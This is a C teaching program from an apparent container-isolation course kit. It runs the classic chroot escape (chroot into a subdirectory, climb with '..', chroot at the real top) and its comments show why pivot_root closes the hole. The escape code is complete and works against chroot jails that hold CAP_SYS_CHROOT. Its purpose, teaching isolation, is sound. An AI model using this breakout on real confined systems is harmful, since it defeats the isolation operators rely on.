// SPDX-License-Identifier: MIT
/*
 * chroot_escape - the classic way out of a chroot, and why pivot_root
 * closes it
 *
 * Demonstrates: chroot() changes only where a process's path lookups
 * start; it does not move the current directory. A process with
 * CAP_SYS_CHROOT that chroots into a subdirectory while its current
 * directory stays outside can then climb with ".." past the old root
 * (".." stops only at the process's root, which it is now above), and
 * chroot(".") at the real top: out. After pivot_root and the old root's
 * unmount there is no "outside" left to climb to: the same steps end at
 * the container's own root.
 *
 * Usage: chroot_escape PATH
 *   Try the escape, then say whether PATH (a path that exists only
 *   outside the jail, such as the kit's own directory) can be seen.
 *
 * Try (at the top of the kit):
 *     $ make rootfs          # copies this program into build/rootfs/bin
 *     $ unshare -r /usr/sbin/chroot build/rootfs /bin/chroot_escape $PWD
 *     escape: climbed 40 levels with ".." and chrooted there
 *     escaped: ... is visible: yes
 *     $ mounts/pivot_shell -r build/rootfs /bin/chroot_escape $PWD
 *     escape: climbed 40 levels with ".." and chrooted there
 *     escaped: ... is visible: no
 *   Observe: after chroot the kit's directory, outside the jail, is back
 *   in view; after pivot_root it is not: there is nowhere to climb to.
 *
 * Needs: CAP_SYS_CHROOT (root, or root in a user namespace, as above).
 *
 * See also: chroot(2) (NOTES), pivot_root(2); TLPI 18.12; course chapter
 * 19 ("Mounting a container filesystem").
 */
/* This program runs inside the busybox root, where there is no C library
 * to load: it is linked statically (see the Makefile), and so without the
 * kit's error library, which may be built with sanitizers. It reports
 * errors with perror() instead. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define LEVELS 40 /* more than any real tree is deep */

/* At exit: all of standard output written? (Linked statically, without
 * the kit's library, which does this for every other program.) */
static void
check_stdout(void)
{
    if (fflush(stdout) == EOF || ferror(stdout)) {
        fprintf(stderr, "chroot_escape: write error on standard output: %s\n",
                strerror(errno));
        _exit(EXIT_FAILURE);
    }
}

int
main(int argc, char *argv[])
{
    atexit(check_stdout);
    if (argc == 2 && strcmp(argv[1], "-h") == 0) {
        printf("Usage: chroot_escape PATH\n");
        return EXIT_SUCCESS;
    }
    /* No options but -h: anything else that starts with '-' is named, in
     * the kit's form (this program is built without the kit's library). */
    if (argc == 2 && argv[1][0] == '-') {
        fprintf(stderr, "chroot_escape: %s: unknown option\n", argv[1]);
        fprintf(stderr, "Usage: chroot_escape PATH\n");
        return 2;
    }
    if (argc != 2) {
        fprintf(stderr, "Usage: chroot_escape PATH\n");
        return 2;
    }

    /* A directory to chroot into, while our current directory stays
     * where it is: above the new root. It is made in /tmp, and removed at
     * the end through a descriptor for /tmp, the one name for it that
     * still works once we are out. */
    char jail[] = "/tmp/isolab-jail.XXXXXX";
    int tmp = open("/tmp", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (tmp == -1 || mkdtemp(jail) == NULL) {
        perror("chroot_escape: make a directory in /tmp");
        return EXIT_FAILURE;
    }
    if (chroot(jail) == -1) {
        perror("chroot_escape: chroot");
        unlinkat(tmp, jail + 5, AT_REMOVEDIR);
        return EXIT_FAILURE;
    }
    /* ".." is not stopped: we are outside our own root. */
    for (int i = 0; i < LEVELS; i++)
        if (chdir("..") == -1) {
            perror("chroot_escape: chdir ..");
            return EXIT_FAILURE;
        }
    if (chroot(".") == -1) {
        perror("chroot_escape: chroot .");
        return EXIT_FAILURE;
    }
    printf("escape: climbed %d levels with \"..\" and chrooted there\n",
           LEVELS);
    printf("escaped: %s is visible: %s\n", argv[1],
           access(argv[1], F_OK) == 0 ? "yes" : "no");
    if (unlinkat(tmp, jail + 5, AT_REMOVEDIR) == -1)
        perror("chroot_escape: remove the jail");
    return EXIT_SUCCESS;
}
